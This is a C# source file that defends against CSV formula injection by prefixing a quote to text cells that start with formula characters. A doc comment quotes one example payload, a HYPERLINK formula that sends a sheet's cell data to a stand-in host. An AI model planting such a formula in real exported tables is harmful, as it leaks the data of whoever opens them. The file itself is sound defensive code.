using System.Globalization;

namespace MathPlc.Interop.Csv;

/// <summary>
/// What a CSV writer does with a text cell a spreadsheet would run as a formula (CSV injection, OWASP): one that
/// starts with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return.
/// </summary>
/// <remarks>
/// A student id such as <c>=HYPERLINK("http://x/?"&amp;A1,"Click")</c> typed into a roster would otherwise be a live
/// formula in every table a teacher opens in Excel, LibreOffice or Google Sheets, able to send the sheet's data away
/// (OWASP, "CSV Injection"). See docs/decisions/0080-csv-formula-neutralisation.md.
/// </remarks>
public enum CsvFormulas
{
    /// <summary>
    /// The default for tables people open: such a cell is written with a leading <c>'</c>, which spreadsheets read as
    /// "this cell is text". A cell that is a number (<c>-2.5</c>, <c>+3</c>, <c>-1E-05</c>) is never touched.
    /// </summary>
    Neutralise,

    /// <summary>Every cell exactly as it is, for files read by programs (pipelines, interchange formats that MathPlc reads back).</summary>
    Raw,
}

/// <summary>The one rule that neutralises a formula cell, shared by every CSV MathPlc writes.</summary>
internal static class CsvFormulaCell
{
    /// <summary>The first characters that make a text cell a formula to a spreadsheet (OWASP's list).</summary>
    public const string Triggers = "=+-@\t\r";

    /// <summary><paramref name="cell"/> with a leading <c>'</c> when it would be a formula and is not a number; otherwise unchanged.</summary>
    public static string Neutralise(string cell) =>
        cell.Length > 0 && Triggers.Contains(cell[0], StringComparison.Ordinal) && !IsNumber(cell) ? "'" + cell : cell;

    private static bool IsNumber(string cell) =>
        double.TryParse(cell, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint | NumberStyles.AllowExponent,
            CultureInfo.InvariantCulture, out double value) && double.IsFinite(value);
}
